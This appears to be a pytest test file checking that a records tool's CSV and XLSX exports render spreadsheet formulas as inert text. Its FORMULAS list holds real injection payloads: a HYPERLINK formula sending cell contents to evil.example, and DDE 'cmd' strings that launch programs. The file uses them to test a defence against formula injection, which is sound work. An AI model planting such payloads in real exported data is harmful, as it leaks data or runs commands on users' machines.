"""Hostile text in exported files: a spreadsheet never runs record text as a formula."""

from __future__ import annotations

import csv
import io
import json
import re

import openpyxl

from commitments import cli
from tests.baseline import fresh, write_dataset

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open the source")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_items() -> dict:
    items = fresh()
    answer = items["answers"][0]
    answer["answer"] += "\n\n" + "\n\n".join(f"{text} made 67 arrests." for text in FORMULAS)
    for i, text in enumerate(FORMULAS):
        record = {**items["records"][0], "id": f"formula-{i}", "title": text}
        record["quote"] = f"{text} made 67 arrests."
        record["tags"] = [text]
        record["history"] = [{**record["history"][0], "note": text}]
        items["records"].append(record)
    return items


def test_csv_and_xlsx_exports_hold_formulas_as_inert_text(tmp_path, monkeypatch, capsys):
    write_dataset(tmp_path / "data", _hostile_items())
    monkeypatch.chdir(tmp_path)
    assert cli.main(["validate", "data"]) == 0, capsys.readouterr().out
    for fmt in ("csv", "xlsx", "json"):
        assert cli.main(["export", "data", "--format", fmt, "--out", f"records.{fmt}"]) == 0

    titles = {
        row["id"]: row["title"] for row in json.loads((tmp_path / "records.json").read_text())
    }
    assert [titles[f"formula-{i}"] for i in range(len(FORMULAS))] == FORMULAS, "JSON keeps text"

    text = (tmp_path / "records.csv").read_bytes().decode("utf-8-sig")
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["id"] for row in parsed] == list(titles), "a line break in a field splits its row"
    rows = {row["id"]: row for row in parsed}
    for i, formula in enumerate(FORMULAS):
        row = rows[f"formula-{i}"]
        assert row["title"] == "'" + formula
        assert row["tags"] == "'" + formula
        assert row["quote"] == f"'{formula} made 67 arrests."
    assert (
        rows["ilo-nine-balkans"]["title"]
        == "Nine Immigration Liaison Officers posted in the Balkans"
    )

    book = openpyxl.load_workbook(tmp_path / "records.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells, "the workbook has cells"
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no cell is a formula"
    assert [c.coordinate for c in cells if c.hyperlink] == [], "no address is a live link"
    sheet = book["Records"]
    header = [cell.value for cell in sheet[1]]
    rows = sheet.iter_rows(min_row=2, values_only=True)
    titles = {row[header.index("id")]: _shown(row[header.index("title")]) for row in rows}
    for i, formula in enumerate(FORMULAS):
        assert titles[f"formula-{i}"] == "'" + formula


def _shown(text: str) -> str:
    """A cell's text as a spreadsheet shows it: the file format writes a carriage return as the
    escape ``_x000D_``, which Excel and LibreOffice read back and openpyxl leaves as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)
